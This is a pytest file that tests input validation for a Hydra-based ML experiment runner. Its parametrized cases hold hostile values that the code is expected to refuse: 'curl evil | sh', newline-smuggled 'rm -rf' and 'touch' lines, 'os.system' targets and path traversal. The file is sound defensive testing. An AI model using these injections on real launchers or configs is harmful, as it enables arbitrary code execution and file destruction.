"""From the words of a command line to an experiment, or to what is wrong with them."""

from __future__ import annotations

import shlex
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
from hydra.core.override_parser.overrides_parser import OverridesParser
from hypothesis import given
from hypothesis import strategies as st

import runner
from runner.command_line.entry import main
from runner.config.compose import Composition, compose_one, validate
from runner.config.declared_config import DeclaredModel
from runner.config.hydra_arguments import parse_arguments
from runner.config.loading import Loader
from runner.errors import InputError

MODEL = """
width: 5
input_shape: [3]
layers:
  only: {class_name: Dense, units: "${model.width}"}
"""


def composed(*words: str) -> Composition:
    return compose_one(words, "0a1b2c3d")[0]


def refused(*words: str) -> list[str]:
    """Return the lines that a command line is refused with; it leaves nothing behind."""
    before = sorted(Path().rglob("*"))
    with pytest.raises(InputError) as caught:
        validate(parse_arguments(words), "0a1b2c3d")
    assert sorted(Path().rglob("*")) == before
    return [str(problem) for problem in caught.value.problems]


def own(path: str, text: str) -> Sequence[str]:
    """Write a config of one's own; returns the flags that show it to Runner."""
    file = Path("own") / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, encoding="utf-8")
    return ["--config-dir", "own"]


def test_the_defaults_are_the_tutorial() -> None:
    experiment = composed().experiment
    assert isinstance(experiment.model, DeclaredModel)
    assert experiment.model.parameters == {"hidden_units": 4}
    assert experiment.model.layers["hidden"].arguments == {"units": 4, "activation": "relu"}
    assert (experiment.seed, experiment.format, experiment.train) == (0, "parquet", None)


def test_values_groups_and_added_keys_reach_the_experiment() -> None:
    done = composed("model.hidden_units=8", "optimizer=sgd", "format=csv", "+capture.reduce.a=mean")
    assert isinstance(done.experiment.model, DeclaredModel)
    assert done.experiment.model.layers["hidden"].arguments["units"] == 8
    assert done.experiment.optimizer is not None
    assert done.experiment.optimizer.class_name == "SGD"
    assert done.experiment.format == "csv"
    assert done.experiment.capture.reduce == {"a": "mean"}
    assert done.overrides == (
        "model.hidden_units=8", "optimizer=sgd", "format=csv", "+capture.reduce.a=mean",
    )  # fmt: skip
    assert done.files[".hydra/overrides.yaml"].decode().splitlines()[0] == "- model.hidden_units=8"
    assert b"${model.hidden_units}" in done.files[".hydra/config.yaml"]
    assert done.files[".hydra/hydra.yaml"].startswith(b"hydra:\n")


def test_a_mapping_brings_keys_to_one_that_is_there() -> None:
    word = "capture.reduce={hidden: mean}"
    assert dict(composed(word).experiment.capture.reduce) == {"hidden": "mean"}
    assert main([word, "hydra.run.dir=one"]) == 0
    assert runner.open_run("one").config["capture"]["reduce"] == {"hidden": "mean"}
    assert refused("model.layers.hiden={units: 3}") == [
        "model.layers.hiden: expected class_name or reuse, found neither; add class_name: ..."
    ]


@pytest.mark.parametrize(
    ("words", "line"),
    [
        ("model.hiden_units=8", "model.hiden_units: unknown key; did you mean 'hidden_units'?"),
        ("+model.hiden_units=8", "model.hiden_units: unknown key; did you mean 'hidden_units'?"),
        ("++model.hiden_units=8", "model.hiden_units: unknown key; did you mean 'hidden_units'?"),
        ("model.layrs=1", "model.layrs: unknown key; did you mean 'layers'?"),
        ("model.layers.hiden.units=3", "model.layers.hiden: unknown key; did you mean 'hidden'?"),
        (
            "modle=tutorial",
            "modle: unknown key; did you mean 'model'?; "
            "put a key of your own below extra: extra.modle",
        ),
        ("capture.batchsize=2", "capture.batchsize: unknown key; did you mean 'batch_size'?"),
        ("probe.sourc=3", "probe.sourc: unknown key; did you mean 'source'?"),
        ("name=false", "name: expected text, found false; write it in quotes"),
        ("seed=-1", "seed: must be 0 to 4294967295, found -1"),
        ("seed=4294967296", "seed: must be 0 to 4294967295, found 4294967296"),
        ("seed=true", "seed: expected an integer, found true"),
        ("model.hidden_units=0", "model.hidden_units: must be >= 1, found 0"),
        ("optimizer=adma", "optimizer: there is no config 'adma'; did you mean 'adam'?"),
        ("loss=mes", "loss: there is no config 'mes'; did you mean 'mse'?"),
        (
            "format=xml",
            "format: there is no config 'xml'; there are arrow, csv, csv_bom, none, parquet, xlsx",
        ),
        ("probe=csv", "probe.path: required, and not given; set probe.path=..."),
        ("name=${mode.x}", "name: refers to 'mode.x', which is not in the configuration"),
        (
            "name=${oc.env:RUNNER_TEST_UNSET}",
            "name: environment variable RUNNER_TEST_UNSET is not set; set it, or give a default: "
            "${oc.env:RUNNER_TEST_UNSET,value}",
        ),
        (
            "model.layers.hidden.use_bias=false",
            "model.layers.hidden.use_bias: is not in the configuration yet; "
            "add it with a plus: +model.layers.hidden.use_bias=false",
        ),
        (
            "hydra/launcher=joblib hydra.launcher.njobs=2",
            "hydra.launcher.njobs: the launcher 'joblib' has no such key; did you mean 'n_jobs'?",
        ),
        (
            "seed=1,2",
            "seed: 1,2 means several values; "
            "add -m to run them all, or quote it as one value: 'seed=\"1,2\"'",
        ),
        ("loss=null", "loss: must name a config, found null; for none, type ~loss"),
        ("probe=null", "probe: must name a config, found null; leave it out"),
        (
            'capture.reduce={"hidden":mean}',
            'capture.reduce: Hydra cannot read the value {"hidden":mean}; '
            r"write the keys of a mapping without quotes, and a colon in a key as \:",
        ),
        ("nonsense", "nonsense: is not key=value; see --help for examples"),
        ("--resolve", "--resolve: works only with --cfg or --help"),
        ("--run --multirun", "--run --multirun: cannot be used together; keep one"),
        ("--config-dir absent", "--config-dir: no folder 'absent'"),
    ],
)
def test_a_mistake_is_said_in_one_line(words: str, line: str) -> None:
    assert refused(*words.split(" ")) == [line]


@pytest.mark.parametrize(
    ("words", "place", "choice"),
    [
        ("experiment=lstm probe=inline probe.inputs=[[1,2,3]]", "probe.high", "probe=inline"),
        ("experiment=mine train=fit train/data=npy train.data.path=x.npy", "train.data.rows",
         "train/data=npy"),
        ("experiment=mine model=iris_mlp", "model.width", "model=iris_mlp"),
    ],
)  # fmt: skip
def test_a_key_that_the_experiment_sets_for_another_choice(
    words: str, place: str, choice: str
) -> None:
    text = f"{GLOBAL}defaults: [override /model: two]\nmodel: {{width: 7}}\n"
    if "train" in words:
        text = (
            f"{GLOBAL}defaults: [override /train: fit, override /train/data: random]\n"
            "train: {data: {rows: 7}}\n"
        )
        Path("x.npy").write_bytes(b"")
    own("model/two.yaml", MODEL)
    flags = own("experiment/mine.yaml", text)
    name = words.split(" ")[0]
    [line] = refused(*flags, *words.split(" "))
    assert line == (
        f"{place}: is set by {name}, and {choice} has no such key; leave it out: ~{place}"
    )
    validate(parse_arguments([*flags, *words.split(" "), f"~{place}"]), "0a1b2c3d")


def test_a_plus_before_a_key_that_is_there_is_told_apart_from_hydras_advice() -> None:
    with pytest.raises(InputError) as caught:
        Loader(parse_arguments([])).load(["+probe.allow_nan=true"])
    assert str(caught.value) == (
        "probe.allow_nan: is in the configuration already; "
        "change it without a plus: probe.allow_nan=..."
    )


def test_all_mistakes_are_said_together() -> None:
    words = ("seed=-1", "model.hiden_units=8", "capture.batch_size=0", "loss.class_name=mes")
    said = [line.partition(" (names are those of")[0] for line in refused(*words)]
    assert said == [
        "model.hiden_units: unknown key; did you mean 'hidden_units'?",
        "seed: must be 0 to 4294967295, found -1",
        "loss.class_name: unknown loss 'mes'; did you mean 'mse'? "
        "all are at https://keras.io/api/losses/",
        "capture.batch_size: must be >= 1, found 0",
    ]


@pytest.mark.parametrize("path", ["data(1).csv", "~/x.csv", "자료.csv", "a#b.csv", "it's(1).csv"])
def test_a_path_that_hydra_cannot_read_is_shown_quoted(path: str) -> None:
    [line] = refused("probe=csv", f"probe.path={path}")
    said, advice = line.split("; quote it twice: ")
    assert said == f"probe.path: Hydra cannot read the value {path}"
    [word] = shlex.split(advice)  # as a shell hands it on
    probe = composed("probe=csv", word).experiment.probe
    assert getattr(probe, "path", None) == path


@given(st.text(st.characters(exclude_categories=["C"], exclude_characters="$"), min_size=1))
def test_what_is_shown_to_type_always_means_the_same_text(value: str) -> None:
    parser = OverridesParser.create()
    try:
        validate(parse_arguments([f"name={value}(,"]), "0a1b2c3d")
    except InputError as error:
        [word] = shlex.split(error.problems[0].advice.partition(": ")[2])
        assert parser.parse_override(word).value() == f"{value}(,"


@pytest.mark.parametrize(
    "word",
    [
        "+_target_=os.system",
        "+model.layers.hidden.kernel_initializer={_target_: os.system}",
        "+hydra.callbacks.mine._target_=os.system",
        "hydra.launcher._target_=os.system",
        "hydra.job_logging.handlers={}",
        "hydra/job_logging=default",
        "hydra.searchpath=[pkg://os]",
        "hydra.output_subdir=.hydra",
        "hydra.job.chdir=true",
        "++hydra={job_logging: {handlers: {mine: {class: os.system}}}}",
        "+probe@hydra.callbacks.mine=digits",
        "hydra.sweeper.run_id=../../x",
        "hydra.sweeper.jobs={0:1}",
    ],
)
def test_no_word_can_name_code(word: str) -> None:
    [line] = refused(word)
    assert "names code" in line or "cannot be set" in line


@pytest.mark.parametrize(
    ("path", "text", "word", "line"),
    [
        (
            "experiment/mine.yaml",
            "# @package _global_\nhydra: {callbacks: {mine: {_target_: os.system}}}\n",
            "experiment=mine",
            "hydra.callbacks.mine._target_: names code ('os.system')",
        ),
        (
            "experiment/mine.yaml",
            "# @package hydra.job_logging\nhandlers: {mine: {class: os.system}}\n",
            "experiment=mine",
            "hydra.job_logging: can run code",
        ),
        (
            "hydra/launcher/mine.yaml",
            "_target_: os.system\n",
            "hydra/launcher=mine",
            "hydra.launcher._target_: names code ('os.system')",
        ),
        (
            "model/mine.yaml",
            MODEL + "  next: {class_name: Dense, units: 1, bias_initializer: {_target_: x}}\n",
            "model=mine",
            "model.layers.next.bias_initializer._target_: names code, which is not allowed in a "
            "configuration",
        ),
    ],
)
def test_no_config_of_ones_own_can_name_code(path: str, text: str, word: str, line: str) -> None:
    [said] = refused(*own(path, text), word)
    assert said.startswith(line)


def test_a_search_path_to_a_package_is_refused_before_the_package_is_imported() -> None:
    flags = own("mine.yaml", "defaults: [config]\nhydra: {searchpath: ['pkg://antigravity']}\n")
    assert refused(*flags, "--config-name", "mine") == [
        "hydra.searchpath: can run code; use --config-dir"
    ]
    assert "antigravity" not in sys.modules


def test_a_file_that_unfolds_to_gigabytes_is_refused_unread() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    [line] = refused(*own("model/mine.yaml", "\n".join(lines)), "model=mine")
    assert line.endswith("values, the limit is 10,000")


def test_code_is_refused_where_only_help_is_asked_for_too() -> None:
    from runner.command_line.entry import main

    text = "# @package _global_\nhydra: {callbacks: {mine: {_target_: os.system}}}\n"
    assert main([*own("experiment/mine.yaml", text), "experiment=mine", "--help"]) == 2


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (MODEL + "  only: {class_name: Dense, units: 1}\n", ":6: found duplicate key only"),
        ("layers:\n\tonly: 1\n", ":2: a tab cannot indent YAML; use spaces"),
        ("layers: [1\nwidth: 2\n", ":2: expected ',' or ']', but got ':'"),
    ],
)
def test_a_file_that_is_no_yaml_is_said_with_its_line(text: str, line: str) -> None:
    [said] = refused(*own("model/mine.yaml", text), "model=mine")
    assert said.endswith(f"own/model/mine.yaml{line}")


def test_a_value_is_blamed_where_it_stands() -> None:
    text = MODEL.replace("width: 5", "width: ${model.wide}\nwide: ???")
    flags = own("model/mine.yaml", text)
    assert refused(*flags, "model=mine") == [
        "model.wide: required, and not given; set model.wide=..."
    ]
    assert refused(*flags, "model=mine", "model.wide=0") == ["model.wide: must be >= 1, found 0"]


def test_a_parameter_that_nothing_refers_to_is_refused() -> None:
    flags = own("model/mine.yaml", MODEL + "widht: 3\n")
    assert refused(*flags, "model=mine") == [
        "model.widht: unknown key: nothing refers to it; did you mean 'width'?"
    ]


def test_a_parameter_may_be_referred_to_from_where_it_is_used() -> None:
    flags = own("model/mine.yaml", MODEL.replace("${model.width}", "${...width}"))
    model = composed(*flags, "model=mine", "model.width=6").experiment.model
    assert isinstance(model, DeclaredModel)
    assert model.layers["only"].arguments == {"units": 6}


def test_secrets_of_the_environment_stay_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNNER_TEST_SECRET", "hush")
    text = MODEL.replace("width: 5", "width: 5\nfile: ${oc.env:RUNNER_TEST_SECRET}")
    flags = own("model/mine.yaml", text + "weights: ${model.file}\n")
    done = composed(*flags, "model=mine", "name=run-${oc.env:RUNNER_TEST_SECRET}")
    assert isinstance(done.experiment.model, DeclaredModel)
    assert done.experiment.model.weights == "hush"
    assert done.experiment.name == "run-hush"
    assert done.config["model"]["weights"] == "${oc.env:RUNNER_TEST_SECRET}"
    assert done.config["name"] == "run-${oc.env:RUNNER_TEST_SECRET}"
    assert not any(b"hush" in content for content in done.files.values())


@pytest.mark.parametrize(
    ("words", "jobs", "folder"),
    [
        ([], 1, "outputs/"),
        (["hydra.run.dir=here"], 1, "here"),
        (["-m", "seed=0,1,2", "model.hidden_units=4,8"], 6, "outputs/"),
        (["-m", "seed=range(0,5)", "loss=mse,mae", "hydra.sweep.dir=there"], 10, "there"),
        (["hydra.mode=MULTIRUN", "seed=0,1"], 2, "outputs/"),
    ],
)
def test_how_many_jobs_there_are_and_where_they_go(
    words: list[str], jobs: int, folder: str
) -> None:
    asked = validate(parse_arguments(words), "0a1b2c3d")
    assert (len(asked.jobs), asked.is_sweep) == (jobs, jobs > 1)
    assert asked.folder.as_posix().startswith(folder.rstrip("/"))
    assert asked.folder.name.endswith("-0a1b2c3d") or asked.folder.name == folder
    key = "sweep" if asked.is_sweep else "run"
    assert asked.folder_word == f'hydra.{key}.dir="{asked.folder}"'


def test_a_sweep_is_refused_only_if_none_of_its_choices_is_right() -> None:
    words = ["-m", "probe=tutorial,digts", "loss=mse,mes"]
    assert len(validate(parse_arguments(words), "0a1b2c3d").jobs) == 4
    words = ["-m", "model=digits_cnn,tutorial", "model.hidden_units=3,4"]
    assert len(validate(parse_arguments(words), "0a1b2c3d").jobs) == 4
    assert refused("-m", "probe=digts,digits2", "loss=mse") == [
        "probe: there is no config 'digts'; did you mean 'digits'?",
        "probe: there is no config 'digits2'; did you mean 'digits'?",
    ]
    [line] = refused("-m", "model=digits_cnn,lstm", "model.hidden_units=3,4")[:1]
    known = "filters, dtype, quantize, layers"
    assert line.startswith(f"model.hidden_units: unknown key; the model's keys are {known}")


def test_a_choice_that_could_run_code_stops_the_whole_sweep(tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment/bad.yaml").write_text(
        "# @package _global_\nhydra: {callbacks: {a: {_target_: os.system}}}\n"
    )
    words = ["--config-dir", str(tmp_path), "-m", "experiment=digits_mlp,bad"]
    assert refused(*words)


@pytest.mark.parametrize("place", ["run", "sweep"])
def test_a_file_chooses_a_folder_below_the_working_directory(tmp_path: Path, place: str) -> None:
    Path("experiment").mkdir()
    mode = ["-m"] if place == "sweep" else []
    words = ["--config-dir", ".", *mode, "experiment=mine", "seed=0"]
    for folder in (str(tmp_path.parent / "other"), "a/../../b", "${oc.env:HOME}/b"):
        text = f"# @package _global_\nhydra: {{{place}: {{dir: '{folder}'}}}}\n"
        Path("experiment/mine.yaml").write_text(text)
        [line] = refused(*words)
        assert line.startswith(f"hydra.{place}.dir: a file can only choose a folder below the")
    assert validate(parse_arguments([*words, f"hydra.{place}.dir=/tmp/x"]), "0a1b2c3d").folder
    Path("experiment/mine.yaml").write_text(
        f"# @package _global_\nhydra: {{{place}: {{dir: mine/x}}}}\n"
    )
    assert validate(parse_arguments(words), "0a1b2c3d").folder == Path("mine/x")


GLOBAL = "# @package _global_\n"


def jobs(*words: str) -> list[str]:
    """Return the overrides of every job of a sweep, those of a job in one text."""
    asked = validate(parse_arguments(words), "0a1b2c3d")
    assert asked.is_sweep
    return [" ".join(job) for job in asked.jobs]


@pytest.mark.parametrize(
    ("word", "values"),
    [
        ("seed=choice(2,1)", ["2", "1"]),
        ("seed=range(0,6,2)", ["0", "2", "4"]),
        ("seed=sort(2,0,1)", ["0", "1", "2"]),
        ("seed=tag(mine,choice(1,2))", ["1", "2"]),
        ("model=glob(digits_*)", ["digits_cnn", "digits_mlp"]),
        ("probe=glob([i*,digits],exclude=im*)", ["digits", "inline", "iris"]),
    ],
)
def test_a_sweep_is_written_as_for_hydras_own_sweeper(word: str, values: list[str]) -> None:
    key = word.partition("=")[0]
    own("model/unused.yaml", MODEL)
    probe = ["probe=digits", "model=digits_mlp"] if key == "seed" else ["loss=mse"]
    found = [job.split()[-1] for job in jobs("-m", *probe, word)]
    assert found == [f"{key}={value}" for value in values]


def test_a_shuffled_sweep_has_one_order_so_that_it_can_be_resumed() -> None:
    words = ("-m", "seed=shuffle(range(0,9))")
    assert jobs(*words) == jobs(*words)
    assert sorted(jobs(*words)) == [f"seed={seed}" for seed in range(9)] != jobs(*words)


@pytest.mark.parametrize(
    ("word", "line"),
    [
        ("seed=interval(0,3)", "seed: interval(0,3) has no single values: "),
        ("seed=range(3,0)", "seed: range(3,0) contains no value"),
        ("seed=range(0,3,0)", "seed: range(0,3,0) has a step of 0; "),
        (
            "seed=range(0,1000000000)",
            "sweep: asks for 1,000,000,000 runs, the limit is 1,000,000; ",
        ),
        ("seed=range(0,nan)", "seed: range(0,nan) has no end; give a number"),
        ("seed=range(0,1e999)", "seed: range(0,1e999) has no end; give a number"),
        ("seed=range(0,1e9,1e-308)", "seed: range(0,1e9,1e-308) has no end; give a number"),
        (f"seed=range(0,1{'0' * 400})", f"seed: range(0,1{'0' * 400}) has no end; give a number"),
        ("seed=choice()", "seed: Hydra cannot read choice()"),
        ("seed=glob(*)", "seed: glob(*) contains no value; glob(...) chooses among the configs"),
        (
            "model=glob(x*)",
            "model: glob(x*) contains no value; there are application, digits_cnn",
        ),
        (
            "hydra.launcher.n_jobs=1,2",
            "hydra.launcher.n_jobs: must have one value for the whole sweep",
        ),
        ("hydra/sweeper=basic", "hydra/sweeper: 'basic' cannot be used; leave out hydra/sweeper"),
        (
            "hydra/sweeper=optuna",
            "hydra/sweeper: 'optuna' cannot be used; leave it out, ",
        ),
        (
            "+hydra.launcher.n_jobs=2",
            "hydra.launcher.n_jobs: the launcher 'runner' has no such key; ",
        ),
    ],
)
def test_a_sweep_that_cannot_be_made_is_refused(word: str, line: str) -> None:
    [found] = refused("-m", word)
    assert found.startswith(line)


@pytest.mark.parametrize("name", ["basic", "optuna", "null"])
def test_a_sweeper_in_a_file_is_refused_as_on_the_command_line(name: str) -> None:
    flags = own("experiment/mine.yaml", f"{GLOBAL}defaults: [override /hydra/sweeper: {name}]\n")
    [found] = refused(*flags, "experiment=mine")
    if name == "null":
        assert found.startswith("hydra/sweeper: 'None' cannot be used; leave it out, ")
    else:
        assert [found] == refused(f"hydra/sweeper={name}")


@pytest.mark.parametrize(
    ("values", "line"),
    [
        (
            "shuffle(range(0,1000000000))",
            "sweep: asks for 1,000,000,000 runs, the limit is 1,000,0",
        ),
        ("range(0,3,0)", "seed: range(0,3,0) has a step of 0; "),
        ("range(0,inf)", "seed: range(0,inf) has no end; "),
        ("interval(0,3)", "seed: interval(0,3) has no single values: "),
    ],
)
def test_a_sweep_in_a_file_is_counted_before_it_is_listed(values: str, line: str) -> None:
    text = f"hydra: {{mode: MULTIRUN, sweeper: {{params: {{seed: '{values}'}}}}}}\n"
    [found] = refused(*own("experiment/mine.yaml", GLOBAL + text), "experiment=mine")
    assert found.startswith(line)


@pytest.mark.slow
def test_a_sweep_stands_in_a_file() -> None:
    text = "hydra: {mode: MULTIRUN, sweeper: {params: {seed: 'range(0,2)', loss: 'mse,mae'}}}\n"
    flags = own("experiment/mine.yaml", GLOBAL + text)
    expected = [f"seed={seed} loss={loss}" for seed in (0, 1) for loss in ("mse", "mae")]
    assert [
        job.removesuffix(" experiment=mine") for job in jobs(*flags, "experiment=mine")
    ] == expected
    assert jobs(*flags, "-m", "experiment=mine") == jobs(*flags, "experiment=mine")
    # the command line's own values replace the file's
    assert {job.split()[0] for job in jobs(*flags, "experiment=mine", "seed=5")} == {"seed=5"}
    assert jobs("-m", "+hydra.sweeper.params.seed='0,1'") == ["seed=0", "seed=1"]
    nested = "hydra: {sweeper: {params: {model: {hidden_units: '4,5'}, dry_run: true}}}\n"
    flags = own("experiment/nested.yaml", GLOBAL + nested)
    assert jobs(*flags, "-m", "experiment=nested")[0].startswith(
        "model.hidden_units=4 dry_run=true"
    )


@pytest.mark.parametrize(
    ("key", "line"),
    [
        ("hydra.launcher.setup", "hydra.sweeper.params.hydra.launcher.setup: is Hydra's own key"),
        ("sede", "sede: unknown key; did you mean 'seed'?"),
        (
            "+a._target_",
            "a._target_: '_target_' names code, which is not allowed in a configuration",
        ),
    ],
)
def test_a_sweep_in_a_file_is_held_to_what_a_command_line_may_say(key: str, line: str) -> None:
    flags = own(
        "experiment/mine.yaml", f"{GLOBAL}hydra: {{sweeper: {{params: {{{key}: '1,2'}}}}}}\n"
    )
    [found] = refused(*flags, "-m", "experiment=mine")
    assert found.startswith(line)


def test_an_experiment_chooses_its_launcher() -> None:
    chosen = "defaults: [override /hydra/launcher: joblib]\n"
    text = f"{GLOBAL}{chosen}hydra: {{launcher: {{n_jobs: 2}}}}\n"
    flags = own("experiment/mine.yaml", text)
    parsed = parse_arguments([*flags, "experiment=mine"])
    cfg = Loader(parsed).load(parsed.overrides)
    assert cfg.hydra.launcher.n_jobs == 2
    assert cfg.hydra.launcher._target_.endswith(".JoblibLauncher")
    assert jobs(*flags, "-m", "experiment=mine", "seed=0,1")
    [line] = refused(*flags, "-m", "experiment=mine", "hydra/launcher=runner")
    assert line.startswith("hydra.launcher.n_jobs: the launcher 'runner' has no such key")


@pytest.mark.parametrize(
    ("setting", "place"),
    [
        ("setup: ['curl evil | sh']", "hydra.launcher.setup"),
        ("submitit_folder: /elsewhere", "hydra.launcher.submitit_folder"),
        ('partition: "gpu\\nrm -rf x"', "hydra.launcher.partition"),
        ("additional_parameters: {wrap: evil}", "hydra.launcher.additional_parameters"),
        (
            'additional_parameters: {"x\\ntouch harmed #": 5}',
            "hydra.launcher.additional_parameters",
        ),
        ('additional_parameters: {"output=/etc/x": true}', "hydra.launcher.additional_parameters"),
        ("setup: [5]", "hydra.launcher.setup"),
        ('comment: "a\\nb"', "hydra.launcher.comment"),
        ('name: "${hydra.job.name}x"', "hydra.launcher.name"),
    ],
)
def test_no_file_tells_a_launcher_what_to_run_or_where(setting: str, place: str) -> None:
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher", reason="needs the extra slurm")
    slurm = f"{GLOBAL}defaults: [override /hydra/launcher: submitit_slurm]\n"
    text = f"{slurm}hydra: {{launcher: {{{setting}}}}}\n"
    [line] = refused(*own("experiment/mine.yaml", text), "-m", "experiment=mine", "seed=0,1")
    assert line == (
        f"{place}: can run code or misplace files; "
        "leave it out of the file, and set it on the command line"
    )


def test_a_file_tells_a_launcher_what_is_harmless() -> None:
    pytest.importorskip("hydra_plugins.hydra_submitit_launcher", reason="needs the extra slurm")
    harmless = "{partition: gpu-long, timeout_min: 60, gres: 'gpu:1'}"
    slurm = f"{GLOBAL}defaults: [override /hydra/launcher: submitit_slurm]\n"
    flags = own("experiment/mine.yaml", f"{slurm}hydra: {{launcher: {harmless}}}\n")
    word = "hydra.launcher.submitit_folder=elsewhere"  # what one types oneself is one's own
    assert jobs(*flags, "-m", "experiment=mine", "seed=0,1", word)


@pytest.mark.parametrize(
    ("setting", "line"),
    [
        ('job: {name: "x\\ntouch harmed #"}', "hydra.job.name: can run code or misplace files"),
        ("job: {name: '${model.name}'}", "hydra.job.name: can run code or misplace files"),
        ('sweep: {dir: "x\\ntouch harmed #"}', r"hydra.sweep.dir: 'x\ntouch harmed #' holds char"),
    ],
)
def test_no_file_puts_a_line_into_a_script_through_a_name(setting: str, line: str) -> None:
    flags = own("experiment/mine.yaml", f"{GLOBAL}hydra: {{{setting}}}\n")
    [found] = refused(*flags, "-m", "experiment=mine", "seed=0,1")
    assert found.startswith(line)


@pytest.mark.parametrize(
    ("path", "text", "words", "line"),
    [
        ("model/other.yml", MODEL, ["model=other"], "rename {}/model/other.yml to other.yaml"),
        (
            "experiment/twice.yaml",
            f"{GLOBAL}defaults: [/model: digits_cnn]\n",
            ["experiment=twice"],
            "in the file that chooses it again, write: - override /model: ...",
        ),
        (
            "model/tutorial.yaml",
            MODEL,
            [],
            "has the name of a packaged config, which would be taken instead; "
            "give it a name of its own",
        ),
        (
            "experiment/mine.yaml",
            "seed: 3\n",
            ["experiment=mine"],
            "begin the experiment's file with the line: # @package _global_",
        ),
        (
            "mine.yaml",
            "defaults: [{model: tutorial}, _self_]\nseed: 3\n",
            ["--config-name", "mine"],
            "begin its defaults with it: defaults: [config, ..., _self_]",
        ),
    ],
)
def test_a_file_that_is_not_as_it_should_be_is_told_what_to_write(
    path: str, text: str, words: list[str], line: str
) -> None:
    flags = own(path, text)
    [found] = refused(*flags, *words)
    assert found.endswith(line.format(Path("own").resolve()))


def test_a_key_of_ones_own_stands_below_extra() -> None:
    done = composed("+extra.width=6", "model.hidden_units=${extra.width}", "+extra.note=trial")
    assert done.config["extra"] == {"width": 6, "note": "trial"}
    assert done.config["model"]["hidden_units"] == 6
    [line] = refused("+width=6")
    assert line.endswith("put a key of your own below extra: extra.width")


def test_a_resolver_of_a_custom_module_is_there_before_it_is_needed() -> None:
    Path("resolving.py").write_text(
        "from omegaconf import OmegaConf\n"
        "OmegaConf.register_new_resolver('test.twice', lambda x: 2 * int(x), replace=True)\n"
    )
    word = "model.hidden_units=${test.twice:3}"
    [line] = refused(word)
    assert "Unsupported interpolation type test.twice" in line
    done = composed("custom_modules=[resolving]", word)
    assert done.config["model"]["hidden_units"] == 6
    [line] = refused("custom_modules=[resolving_not]", "model.hidden_units=${test.thrice:3}")
    assert line == "custom_modules: No module named 'resolving_not'"


@pytest.mark.parametrize(
    ("words", "line"),
    [
        (["-m", "seed=0,1", "hydra.sweep.subdir=x"], "hydra.sweep.subdir: 'x' would be the folder"),
        (
            ["experiment=lstm", "probe=iris"],
            "probe.high: is set by experiment=lstm, and probe=iris",
        ),
        (["~model"], "model: required, and not given; set model=..."),
        (["name=${hydra.job.name}"], "name: refers to 'hydra.job.name', which is not in the"),
        (["name=${oc.env:NOT_SET_ANYWHERE}"], "name: environment variable NOT_SET_ANYWHERE is not"),
        (["-m", "--cfg", "job"], "--multirun --cfg: cannot be used together; leave out -m"),
        (["model=saved", "model.path=a.pb"], "model.path: 'a.pb' is a TensorFlow graph, whose"),
        (["model=onnx", "model.path=a.ONNX", "+model.dtype=float16"], "model.dtype: a .ONNX file"),
    ],
)
def test_a_mistake_is_told_at_the_key_to_change(words: list[str], line: str) -> None:
    assert [found for found in refused(*words) if found.startswith(line)]


def test_what_hydra_knows_of_a_run_can_be_referred_to() -> None:
    done = composed("name=${hydra:runtime.choices.model}", "+extra.job=${hydra:job.name}")
    assert (done.config["name"], done.config["extra"]) == ("tutorial", {"job": "runner"})


def test_a_dry_sweep_plans_its_first_run_and_writes_nothing(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert main(["-m", "dry_run=true", "seed=0,1", "model.hidden_units=5,6"]) == 0
    said = capsys.readouterr().out
    assert said.endswith("nothing was written (dry_run=true)\n\nthe first of 4 runs\n")
    assert "3 x 5" in said
    assert list(Path().iterdir()) == []
